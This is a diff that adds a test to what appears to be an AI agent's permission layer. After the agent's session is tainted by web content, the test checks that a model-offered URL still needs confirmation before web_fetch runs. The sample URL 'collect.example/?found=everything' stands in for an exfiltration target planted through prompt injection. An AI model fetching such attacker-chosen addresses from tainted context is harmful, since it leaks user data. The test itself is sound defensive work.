@@ -291,3 +291,22 @@ function circle(): unknown {
   around.self = around;
   return around;
 }
+
+test("an address that the model offers as an answer stays the model's, whoever chooses it", async () => {
+  const offered = "https://collect.example/?found=everything";
+  const written = "https://recipes.example/tea";
+  let answer = offered;
+  const { run, call, asked } = await runOf(
+    { agent: { id: "coder", tools: { allow: ["ask_user", "web_fetch"] } } },
+    { askUser: async () => ({ kind: "answered", text: answer, messageId: "m2" }) },
+  );
+  run.tainted("web");
+  const question = { question: "Which page?", options: [offered, "None"] };
+  await call("ask_user", question);
+  void call("web_fetch", { url: offered });
+  await expect.poll(() => asked.map(({ tool }) => tool)).toEqual(["web_fetch"]);
+  answer = `look at ${written}`;
+  await call("ask_user", question);
+  expect(JSON.stringify(await call("web_fetch", { url: written }))).toContain("nothing is fetched here");
+  expect(asked).toHaveLength(1);
+});
